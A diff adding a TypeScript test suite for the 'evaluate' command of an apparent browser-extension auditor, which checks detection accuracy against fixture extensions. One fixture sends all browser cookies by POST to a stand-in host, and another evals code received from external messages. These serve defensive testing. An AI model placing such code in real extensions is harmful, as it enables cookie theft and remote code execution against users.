@@ -1,0 +1,176 @@
+import assert from 'node:assert/strict';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import type { Measurement } from '../evaluate/measurement.ts';
+import type { AccuracySummary } from '../evaluate/summarise-accuracy.ts';
+import { runBinary } from '../run-binary.ts';
+
+const storePackage = join(
+  dirname(fileURLToPath(import.meta.resolve('@tomjs/electron-devtools-files/package.json'))),
+  'extensions/fmkadmapgofadopljbjfkapdkoienihi.crx',
+);
+
+/** One entry of each outcome, a vulnerable one and its safe twin. */
+const entries = [
+  { id: 'tide-table', label: 'benign', tier: 'store_grade' },
+  { id: 'proxy-switch', label: 'benign', tier: 'oss_popular' },
+  { id: 'torn', label: 'benign', tier: 'sample' },
+  { id: 'cookie-thief', label: 'malicious', tier: 'poc', family: 'thieves' },
+  { id: 'absent', label: 'malicious', tier: 'poc', family: 'thieves' },
+  { id: 'tampered', label: 'suspicious', tier: 'header_modifier', file: 'tampered.crx' },
+  { id: 'open', label: 'suspicious', tier: 'vulnerable_demo', what: 'demo: vuln07_open' },
+  { id: 'closed', label: 'suspicious', tier: 'vulnerable_demo', what: 'demo: non_vuln07_closed' },
+];
+
+describe('extaudit evaluate', () => {
+  let folder = '';
+  let index = '';
+  before(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'extaudit-evaluate-'));
+    await writeExtension('tide-table', {}, 'console.log("high water");');
+    await writeExtension('proxy-switch', { permissions: ['proxy'] }, 'console.log("idle");');
+    await writeExtension('torn', {}, 'const = ;');
+    await writeExtension(
+      'cookie-thief',
+      { permissions: ['cookies'], host_permissions: ['<all_urls>'] },
+      'chrome.cookies.getAll({}, (all) => fetch("https://drop.tides.dev/in", { method: "POST", body: JSON.stringify(all) }));',
+    );
+    await writeExtension(
+      'open',
+      { permissions: ['history'], externally_connectable: { matches: ['*://*.tides.dev/*'] } },
+      'chrome.runtime.onMessageExternal.addListener((asked) => { eval(asked.code); });',
+    );
+    await writeExtension('closed', { permissions: ['history'] }, 'console.log("shut");');
+    const bytes = await readFile(storePackage);
+    bytes[bytes.length - 5_000]! ^= 1;
+    await writeFile(join(folder, 'tampered.crx'), bytes);
+    index = join(folder, 'index.json');
+    const list = entries.map(({ file, ...entry }) => ({ ...entry, dir: file ?? entry.id }));
+    await writeFile(index, JSON.stringify(list));
+  });
+  after(() => rm(folder, { recursive: true }));
+
+  async function writeExtension(name: string, manifest: object, script: string): Promise<void> {
+    await mkdir(join(folder, name));
+    const background = { service_worker: 'worker.js' };
+    const whole = { manifest_version: 3, name, version: '2.7', background, ...manifest };
+    await writeFile(join(folder, name, 'manifest.json'), JSON.stringify(whole));
+    await writeFile(join(folder, name, 'worker.js'), script);
+  }
+
+  it('prints one JSON line for each entry, in order, and then the tables', async () => {
+    const { code, stdout } = await runBinary(['evaluate', index, '--no-intel']);
+    assert.equal(code, 3, 'one entry could not be audited');
+    const [lines = '', tables = ''] = stdout.split(/\n\n(?=\d+ entries)/);
+    const rows = linesOf(lines);
+    assert.deepEqual(
+      rows.slice(0, 6).map(({ id, classification }) => `${id} ${classification}`),
+      [
+        'tide-table clean',
+        'proxy-switch clean',
+        'torn incomplete',
+        'cookie-thief malicious',
+        'absent error',
+        'tampered suspicious',
+      ],
+    );
+    assert.deepEqual([rows.length, rows[7]?.id], [8, 'closed']);
+    assert.match(tables, /^8 entries .* intelligence off$/m);
+    assert.match(tables, /^label +tier +n +clean +incomplete +suspicious +malicious +error$/m);
+    assert.match(tables, /^malicious +poc +2 +· +· +· +1 +1$/m);
+    assert.match(tables, /^thieves +2 +· +· +· +1 +1$/m);
+    assert.match(tables, /^recall +all +1 of 2 +50\.0 % +1 of 2 +50\.0 %$/m);
+    assert.match(
+      tables,
+      /^false positives +store_grade \+ oss_popular +0 of 2 +0\.0 % +1 of 2 +50\.0 %$/m,
+    );
+    assert.match(tables, /memory of a process: at most \d+ MB/);
+  });
+
+  it('tells of each entry what was found, and of those that show a vulnerability whether it was', async () => {
+    const output = join(folder, 'entries.jsonl');
+    const run = ['evaluate', index, '--no-intel', '--output', output, '--processes', '1'];
+    const { stdout } = await runBinary(run);
+    assert.ok(!stdout.includes('{"id"'), 'only tables are left for standard output');
+    assert.match(stdout, /^vulnerable +1 of 1 +100\.0 %\nsafe twins +0 of 1 +0\.0 %$/m);
+    const rows = new Map(linesOf(await readFile(output, 'utf8')).map((row) => [row.id, row]));
+    const thief = rows.get('cookie-thief');
+    assert.ok(thief && thief.score && thief.score > 50 && thief.seconds > 0);
+    assert.ok(thief.rules.includes('cookies-sent'));
+    assert.ok(thief.flows.some(({ source, sink }) => source === 'cookies' && sink === 'network'));
+    assert.equal(thief.baseline, true, 'cookies together with all sites');
+    assert.deepEqual(rows.get('open')?.exposure, { expected: true, found: true });
+    assert.deepEqual(rows.get('closed')?.exposure, { expected: false, found: false });
+    assert.equal(rows.get('tide-table')?.exposure, undefined);
+    assert.match(rows.get('absent')?.error?.message ?? '', /ENOENT/);
+  });
+
+  it('gives one JSON document with --format json', async () => {
+    const { stdout } = await runBinary(['evaluate', index, '--no-intel', '--format', 'json']);
+    const { schema_version, tool, entries, summary } = JSON.parse(stdout) as {
+      schema_version: number;
+      tool: { intel_hash: string };
+      entries: Measurement[];
+      summary: AccuracySummary;
+    };
+    assert.deepEqual([schema_version, tool.intel_hash, entries.length], [1, 'none', 8]);
+    assert.deepEqual(summary.recall[0]?.extaudit, { count: 1, of: 2 });
+    assert.deepEqual(summary.vulnerabilities.missed, []);
+    const levels = summary.groups.find(({ tier }) => tier === 'store_grade')?.levels;
+    assert.deepEqual(levels, { low: 1, medium: 0, high: 0, critical: 0 });
+  });
+
+  it('counts for each rule how often it fired, by label and tier', async () => {
+    const file = join(folder, 'statistics.json');
+    await runBinary(['evaluate', index, '--no-intel', '--rule-statistics', file]);
+    const { entries, rules } = JSON.parse(await readFile(file, 'utf8')) as {
+      entries: Record<string, number>;
+      rules: Record<string, Record<string, number>>;
+    };
+    assert.equal(entries['malicious/poc'], 1, 'without the one that could not be audited');
+    assert.deepEqual(rules['cookies-sent'], { 'malicious/poc': 1 });
+    assert.deepEqual(rules['proxy-permission'], { 'benign/oss_popular': 1 });
+    assert.deepEqual(rules['crypto-mining'], {}, 'rules that never fired are there as well');
+  });
+
+  const bad: readonly [string, string | undefined, RegExp][] = [
+    ['is not there', undefined, /index\.json cannot be read: ENOENT/],
+    ['is no JSON', '[{', /index\.json is no JSON/],
+    ['is no list', '{"id":"x"}', /must hold an array/],
+    ['is empty', '[]', /lists no extension/],
+    ['lacks a label', '[{"id":"a","dir":"a"}]', /entry 1 has no label/],
+    ['has an entry that is no object', '[7]', /entry 1 has no id/],
+    [
+      'names one id twice',
+      JSON.stringify([1, 2].map(() => ({ id: 'a', label: 'benign', dir: 'a' }))),
+      /lists "a" twice/,
+    ],
+  ];
+  for (const [what, text, message] of bad) {
+    it(`1 with a clear message when the list ${what}`, async () => {
+      const place = await mkdtemp(join(folder, 'bad-'));
+      if (text !== undefined) await writeFile(join(place, 'index.json'), text);
+      const { code, stdout, stderr } = await runBinary(['evaluate', join(place, 'index.json')]);
+      assert.deepEqual([code, stdout], [1, '']);
+      assert.match(stderr, message);
+      assert.doesNotMatch(stderr, /\n +at /, 'no stack trace');
+    });
+  }
+
+  it('1 before any audit when the output cannot be written', async () => {
+    const run = ['evaluate', index, '--output', join(folder, 'no-folder', 'entries.jsonl')];
+    const { code, stderr } = await runBinary(run);
+    assert.equal(code, 1);
+    assert.match(stderr, /--output .* cannot be written/);
+  });
+});
+
+function linesOf(text: string): Measurement[] {
+  return text
+    .trim()
+    .split('\n')
+    .map((line) => JSON.parse(line) as Measurement);
+}
